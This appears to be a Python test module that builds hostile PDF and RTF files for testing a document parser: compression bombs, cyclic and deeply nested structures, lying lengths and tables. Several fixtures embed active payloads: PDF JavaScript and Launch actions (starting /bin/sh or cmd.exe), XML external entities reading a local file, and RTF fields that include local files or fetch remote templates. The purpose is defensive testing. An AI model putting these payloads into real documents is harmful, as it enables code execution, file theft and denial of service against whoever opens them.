"""Hostile PDF and RTF files."""

import io
import zlib
from collections.abc import Mapping

from pypdf import PdfReader, PdfWriter

from tests.hostile.making import Scene, one_file
from tests.hostile.packages import SENTENCE

RESOURCES = "/Resources<</Font<</F1 5 0 R>>>>"
TEXT = f"BT /F1 12 Tf 72 700 Td ({SENTENCE}) Tj ET".encode()


def stream(data: bytes, extra: str = "", length: int | None = None) -> bytes:
    return f"<<{extra}/Length {len(data) if length is None else length}>>\nstream\n".encode() + data + b"\nendstream"


def pdf(objects: Mapping[int, bytes], trailer: str = "/Root 1 0 R", offset: int = 0) -> bytes:
    """Return a file of these numbered objects; `offset` is added to every place in its table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, content in sorted(objects.items()):
        places[number] = len(out) + offset
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    last = max(objects)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        out += b"%010d 00000 n \n" % max(0, places.get(number, 0))
    out += f"trailer\n<</Size {last + 1}{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def sound(content: bytes = TEXT, page: str = "", catalog: str = "", filters: str = "") -> dict[int, bytes]:
    """Return the objects of a file of one page; from 6 on they are free."""
    return {
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R{RESOURCES}{page}>>".encode(),
        4: stream(content, filters),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


@one_file(".pdf")
def pdf_that_is_sound(scene: Scene) -> bytes:
    return pdf(sound())


@one_file(".pdf")
def pdf_whose_pages_go_round(scene: Scene) -> bytes:
    return pdf(sound() | {2: b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 3>>"})


@one_file(".pdf")
def pdf_whose_tables_go_round(scene: Scene) -> bytes:
    start = pdf(sound()).rindex(b"xref\n0")
    return pdf(sound(), f"/Root 1 0 R/Prev {start}")


@one_file(".pdf")
def pdf_with_a_deep_tree_of_pages(scene: Scene) -> bytes:
    depth = 20_000
    tree = {10 + n: f"<</Type/Pages/Kids[{11 + n} 0 R]/Count 1/Parent {9 + n} 0 R>>".encode() for n in range(depth)}
    tree[10 + depth] = b"<</Type/Page/MediaBox[0 0 612 792]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>"
    return pdf(sound() | {2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>"} | tree)


@one_file(".pdf")
def pdf_that_says_it_has_a_million_pages(scene: Scene) -> bytes:
    return pdf(sound() | {2: b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>"})


@one_file(".pdf")
def pdf_that_shows_one_page_ten_thousand_times(scene: Scene) -> bytes:
    count = scene.sized(500, 10_000)
    return pdf(sound() | {2: f"<</Type/Pages/Kids[{'3 0 R ' * count}]/Count {count}>>".encode()})


@one_file(".pdf")
def pdf_bomb(scene: Scene) -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(scene.sized(100, 3_000))) + packer.flush()
    return pdf(sound(packed, filters="/Filter/FlateDecode"))


@one_file(".pdf")
def pdf_bomb_within_bombs(scene: Scene) -> bytes:
    data = zlib.compress(zlib.compress(zlib.compress(b"q Q " * 25_000_000, 9), 9), 9)
    return pdf(sound(data, filters="/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


@one_file(".pdf")
def pdf_of_many_filters(scene: Scene) -> bytes:
    return pdf(sound(TEXT.hex().encode() + b">", filters=f"/Filter[{'/ASCIIHexDecode' * 5_000}]"))


@one_file(".pdf")
def pdf_of_endless_letters(scene: Scene) -> bytes:
    lines = b"".join(
        b"1 0 0 1 72 %d Tm (%s) Tj " % (700 - n % 600, SENTENCE.encode()) for n in range(scene.sized(5_000, 100_000))
    )
    return pdf(sound(b"BT /F1 1 Tf " + lines + b"ET"))


@one_file(".pdf")
def pdf_of_letters_one_by_one(scene: Scene) -> bytes:
    count = scene.sized(20_000, 200_000)
    letters = b"".join(b"1 0 0 1 %d %d Tm (a) Tj " % (n * 7919 % 600, n * 104729 % 780) for n in range(count))
    return pdf(sound(b"BT /F1 8 Tf " + letters + b"ET"))


@one_file(".pdf")
def pdf_cut_in_half(scene: Scene) -> bytes:
    whole = pdf(sound())
    return whole[: len(whole) // 2]


@one_file(".pdf")
def pdf_without_its_table(scene: Scene) -> bytes:
    whole = pdf(sound())
    return whole[: whole.rindex(b"xref\n0")]


@one_file(".pdf")
def pdf_whose_table_lies(scene: Scene) -> bytes:
    return pdf(sound(), offset=1_000_000)


@one_file(".pdf")
def pdf_whose_table_lies_backwards(scene: Scene) -> bytes:
    return pdf(sound(), offset=-7)


@one_file(".pdf")
def pdf_with_lengths_that_lie(scene: Scene) -> bytes:
    return pdf(sound() | {4: stream(TEXT, length=2_000_000_000)})


@one_file(".pdf")
def pdf_with_a_length_that_is_its_own(scene: Scene) -> bytes:
    return pdf(sound() | {4: b"<</Length 4 0 R>>\nstream\n" + TEXT + b"\nendstream"})


@one_file(".pdf")
def pdf_with_a_password(scene: Scene) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(sound()))))
    writer.encrypt("a password", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@one_file(".pdf")
def pdf_that_runs(scene: Scene) -> bytes:
    launch, loop = f"app.launchURL\\('{scene.url}/js'\\);", "while\\(1\\){}"
    action = f"/OpenAction<</S/JavaScript/JS({launch})>>/AA<</WC<</S/JavaScript/JS({loop})>>>>"
    return pdf(sound(catalog=action))


@one_file(".pdf")
def pdf_that_starts_a_program(scene: Scene) -> bytes:
    return pdf(sound(catalog="/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"))


@one_file(".pdf")
def pdf_that_goes_elsewhere(scene: Scene) -> bytes:
    notes = (
        f"/Annots[<</Subtype/Link/Rect[0 0 612 792]/A<</S/URI/URI({scene.url}/u)>>>>"
        f"<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F({scene.canary})/D[0/Fit]>>>>"
        f"<</Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F({scene.url}/s)>>>>]"
    )
    return pdf(sound(page=notes) | {4: f"<</Length 0/F({scene.canary})>>\nstream\n\nendstream".encode()})


@one_file(".pdf")
def pdf_of_a_giant_page(scene: Scene) -> bytes:
    return pdf(sound(page="/MediaBox[-1e30 -1e30 1e30 1e30]/UserUnit 75000/Rotate 91"))


@one_file(".pdf")
def pdf_of_a_page_of_no_size(scene: Scene) -> bytes:
    return pdf(sound(page="/MediaBox[0 0 0 0]/CropBox[9 9 1 1]"))


@one_file(".pdf")
def pdf_whose_form_draws_itself(scene: Scene) -> bytes:
    form = stream(
        b"/X Do /X Do " + TEXT,
        "/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>",
    )
    page = "/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>"
    return pdf(sound(b"/X Do", page=page) | {6: form})


@one_file(".pdf")
def pdf_whose_forms_multiply(scene: Scene) -> bytes:
    """Each of fifteen forms draws the next one ten times."""
    forms = {
        10 + n: stream(
            b"/X Do " * 10 + TEXT,
            f"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X {11 + n} 0 R>>/Font<</F1 5 0 R>>>>",
        )
        for n in range(15)
    }
    forms[25] = stream(TEXT, "/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</Font<</F1 5 0 R>>>>")
    return pdf(sound(b"/X Do", page="/Resources<</XObject<</X 10 0 R>>/Font<</F1 5 0 R>>>>") | forms)


@one_file(".pdf")
def pdf_of_nested_arrays(scene: Scene) -> bytes:
    return pdf(sound(page=f"/Deep {'[' * 100_000}{']' * 100_000}"))


@one_file(".pdf")
def pdf_of_nested_words(scene: Scene) -> bytes:
    return pdf(sound(catalog=f"/Deep {'<</A' * 50_000}{'>>' * 50_000}"))


@one_file(".pdf")
def pdf_of_saved_states(scene: Scene) -> bytes:
    return pdf(sound(b"q " * 500_000 + TEXT))


@one_file(".pdf")
def pdf_without_text(scene: Scene) -> bytes:
    return pdf(sound(b"0 0 100 100 re f"))


@one_file(".pdf")
def pdf_behind_other_bytes(scene: Scene) -> bytes:
    return b"\0" * 900 + pdf(sound())


@one_file(".pdf")
def pdf_of_nuls(scene: Scene) -> bytes:
    return b"%PDF-1.7\n" + bytes(2_000_000)


@one_file(".pdf")
def pdf_with_hostile_properties(scene: Scene) -> bytes:
    dtd = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{scene.canary.as_uri()}">]>'
    xmp = f'{dtd}<x:xmpmeta xmlns:x="adobe:ns:meta/">&x;</x:xmpmeta>'
    objects = sound(catalog="/Metadata 6 0 R") | {6: stream(xmp.encode(), "/Type/Metadata/Subtype/XML")}
    objects[7] = (
        b"<</Title(" + b"t" * 500_000 + b")/Author<FEFFD800>/CreationDate(D:99999999999999Z)/Keywords(\\000\\001)>>"
    )
    return pdf(objects, "/Root 1 0 R/Info 7 0 R")


@one_file(".pdf")
def pdf_with_a_form_that_reads(scene: Scene) -> bytes:
    xfa = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{scene.canary.as_uri()}">]><xdp><template>&x;</template></xdp>'
    return pdf(sound(catalog="/AcroForm<</XFA 6 0 R/Fields[]>>") | {6: stream(xfa.encode())})


@one_file(".pdf")
def pdf_whose_font_maps_to_heaps(scene: Scene) -> bytes:
    ranges = b"".join(b"<%02X> <%02X> <%s>\n" % (n, n, b"0061" * 5_000) for n in range(32, 127))
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 95 beginbfchar\n" + ranges + b"endbfchar endcmap"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return pdf(sound() | {5: font, 6: stream(cmap)})


@one_file(".pdf")
def pdf_of_broken_operators(scene: Scene) -> bytes:
    return pdf(sound(b"BT /F9 -1e99 Tf (unclosed \\( Tj [ ( TJ ET " * 2_000 + b"ID EI BI" * 2_000))


@one_file(".pdf")
def pdf_of_many_objects(scene: Scene) -> bytes:
    return pdf(sound() | dict.fromkeys(range(6, scene.sized(30000, 500000)), b"<</A[1 2 3]>>"))


def rtf(inner: str) -> bytes:
    return f"{{\\rtf1\\ansi\\ansicpg1252 {inner}}}".encode("cp1252")


@one_file(".rtf")
def rtf_nested_deeply(scene: Scene) -> bytes:
    return rtf("{" * 200_000 + SENTENCE + "}" * 200_000)


@one_file(".rtf")
def rtf_that_never_closes(scene: Scene) -> bytes:
    return b"{\\rtf1 " + b"{\\b " * 100_000 + SENTENCE.encode()


@one_file(".rtf")
def rtf_that_closes_too_often(scene: Scene) -> bytes:
    return rtf(SENTENCE + "}" * 100_000 + SENTENCE)


@one_file(".rtf")
def rtf_that_lies_about_raw_bytes(scene: Scene) -> bytes:
    return rtf(f"{SENTENCE}\\par\\bin2147483647 {SENTENCE}")


@one_file(".rtf")
def rtf_of_fewer_than_no_raw_bytes(scene: Scene) -> bytes:
    return rtf(f"{SENTENCE}\\par\\bin-5 {SENTENCE}\\bin99999999999999999999999 {SENTENCE}")


@one_file(".rtf")
def rtf_of_giant_numbers(scene: Scene) -> bytes:
    return rtf(f"\\fs{'9' * 5_000} \\uc999999999 \\u{'8' * 500}? \\par {SENTENCE}")


@one_file(".rtf")
def rtf_of_broken_signs(scene: Scene) -> bytes:
    return rtf(f"\\'zz\\'\\u\\u-99999?\\u55357?\\u65535 \\' {SENTENCE} \\")


@one_file(".rtf")
def rtf_that_skips_all(scene: Scene) -> bytes:
    return rtf(f"\\uc2000000000\\u233 {SENTENCE * 1_000}")


@one_file(".rtf")
def rtf_with_a_giant_object(scene: Scene) -> bytes:
    return rtf(f"{{\\object\\objdata {'d0cf11e0' * scene.sized(300_000, 8_000_000)}}}{SENTENCE}")


@one_file(".rtf")
def rtf_of_many_fonts(scene: Scene) -> bytes:
    return rtf("{\\fonttbl" + "".join(f"{{\\f{n}\\fcharset{n % 300} F{n};}}" for n in range(50_000)) + f"}}{SENTENCE}")


@one_file(".rtf")
def rtf_that_includes(scene: Scene) -> bytes:
    path = str(scene.canary).replace("\\", "\\\\\\\\")
    return rtf(
        f'{{\\field{{\\*\\fldinst INCLUDETEXT "{path}"}}{{\\fldrslt Shown text.}}}}'
        f'{{\\*\\template {scene.url}/t.dotm}}{{\\field{{\\*\\fldinst INCLUDEPICTURE "{scene.url}/p.png"}}}}{SENTENCE}'
    )


@one_file(".rtf")
def rtf_of_control_words(scene: Scene) -> bytes:
    return rtf("\\b\\i\\ul\\par" * 200_000 + SENTENCE)


@one_file(".rtf")
def rtf_with_one_endless_word(scene: Scene) -> bytes:
    return rtf("\\" + "a" * 1_000_000 + f" {SENTENCE}")


@one_file(".rtf")
def rtf_of_tables(scene: Scene) -> bytes:
    return rtf("\\trowd\\cellx1 a\\cell\\row" * 10_000 + SENTENCE)


@one_file(".rtf")
def rtf_cut_in_half(scene: Scene) -> bytes:
    whole = rtf(f"\\par {SENTENCE}" * 50)
    return whole[: len(whole) // 2]
